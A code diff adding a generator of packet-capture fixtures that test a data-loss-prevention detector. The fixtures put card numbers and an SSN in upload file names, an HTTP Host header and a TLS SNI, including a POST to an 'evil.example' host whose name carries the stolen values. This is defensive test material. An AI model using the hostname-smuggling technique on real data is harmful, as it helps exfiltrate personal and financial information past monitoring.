@@ -673,6 +673,47 @@ def urgent_zero(outdir):
     cap.write_pcap(out_path(outdir, "detect-urgent-zero.pcap"))
 
 
+def client_hello(sni):
+    """A TLS 1.3 ClientHello record naming `sni` (server_name and supported_versions only)."""
+    ext = (b"\x00\x00" + (len(sni) + 5).to_bytes(2, "big") + (len(sni) + 3).to_bytes(2, "big") +
+           b"\x00" + len(sni).to_bytes(2, "big") + sni + b"\x00\x2b\x00\x03\x02\x03\x04")
+    hello = (b"\x03\x03" + b"\x11" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" +
+             len(ext).to_bytes(2, "big") + ext)
+    hs = b"\x01" + len(hello).to_bytes(3, "big") + hello
+    return b"\x16\x03\x01" + len(hs).to_bytes(2, "big") + hs
+
+
+def names_carry_values(outdir):
+    """Values in the names an event shows beside them: the sender chose them, so they are
+    data too. :46097 a multipart upload whose file is named after an address and an SSN
+    (the file holds a card); :46098 a POST whose Host names a card and an SSN (the body holds
+    an address); :46099 a TLS ClientHello whose SNI names a card (a flow event with
+    --log-flows); :46100 a file named by 50 `x`s and a card, which an event cuts to 63
+    characters, inside the card (the file holds another card)."""
+    cap = Capture()
+    b_ = b"----dlpnames"
+
+    def upload(name, card=CARD):
+        return (b"--" + b_ + b"\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" +
+                name + b"\"\r\nContent-Type: text/csv\r\n\r\nid,card\r\n1," + card +
+                b"\r\n\r\n--" + b_ + b"--\r\n")
+    mp = "multipart/form-data; boundary=" + b_.decode()
+    exchange(cap, IN1, OUT1, 46097, 80,
+             http_post("files.example.com", "/up",
+                       upload(b"jane.doe@example.com " + SSN + b".csv"), mp))
+    exchange(cap, IN1, OUT1, 46098, 80,
+             http_post("4539-1488-0343-6467." + SSN.decode() + ".evil.example", "/p",
+                       b"contact=jane.doe%40example.com\n"))
+    s = TcpSession(cap, IN1, OUT2, 46099, 443)
+    s.handshake()
+    s.send("c", client_hello(CARD + b".jane-doe.example"))
+    s.send("s", b"\x16\x03\x03\x00\x04\x0e\x00\x00\x00")
+    s.close()
+    exchange(cap, IN1, OUT1, 46100, 80,
+             http_post("files.example.com", "/up", upload(b"x" * 50 + b" " + CARD + b".csv", CARD2), mp))
+    cap.write_pcap(out_path(outdir, "detect-names.pcap"))
+
+
 def main():
     outdir = sys.argv[1]
     for gen in (card_out_of_order, conflicting_retransmission, gap_splits_value, udp_datagrams,
@@ -680,7 +721,8 @@ def main():
                 vlan_tagged, invalid_values, ten_cards, forged_syn, forged_rst, insertion,
                 idle_answer, insertion_interleaved, rst_then_syn, insertion_reordered,
                 insertion_large, forged_fin, idle_one_sided, urgent, rst_syn_one_side, urgent_far,
-                urgent_insertion, urgent_zero, gap_held_to_close, gap_held_to_fin):
+                urgent_insertion, urgent_zero, gap_held_to_close, gap_held_to_fin,
+                names_carry_values):
         gen(outdir)
 
 
